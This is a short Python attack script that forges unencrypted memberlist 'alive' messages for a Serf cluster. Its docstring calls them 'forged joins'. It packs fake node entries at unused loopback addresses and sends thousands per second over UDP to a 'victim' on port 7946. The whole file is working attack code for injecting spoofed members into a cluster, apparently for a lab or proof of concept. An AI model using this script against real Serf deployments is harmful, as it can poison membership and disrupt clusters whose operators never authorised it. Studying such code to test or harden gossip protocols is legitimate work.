"""Forged joins for serf: memberlist's `alive` messages, in MessagePack, unsealed."""

import socket
import struct
import time

ALIVE = 4
# About 5,000 a second: more are lost in its queue.
PAUSE_EACH, PAUSE_S = 10, 0.0018


def _text(text):
    return bytes([0xA0 | len(text)]) + text.encode()


def _bytes(data):
    return bytes([0xA0 | len(data)]) + data


def alive(number):
    """A node of that number, at an address of the loopback device where nobody listens."""
    fields = {
        "Incarnation": struct.pack(">BI", 0xCE, 1),
        "Node": _text(f"f{number}"),
        "Addr": _bytes(bytes([127, 9, number >> 8 & 255, number & 255])),
        "Port": struct.pack(">BH", 0xCD, 7946),
        "Vsn": _bytes(bytes([1, 5, 2, 2, 5, 4])),
    }
    packed = b"".join(_text(key) + value for key, value in fields.items())
    return bytes([ALIVE, 0x80 | len(fields)]) + packed


def send(victim, count):
    wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    wire.bind(("127.0.3.1", 0))
    for number in range(count):
        wire.sendto(alive(number), (victim, 7946))
        if number % PAUSE_EACH == 0:
            time.sleep(PAUSE_S)
    return f"sent {count}"
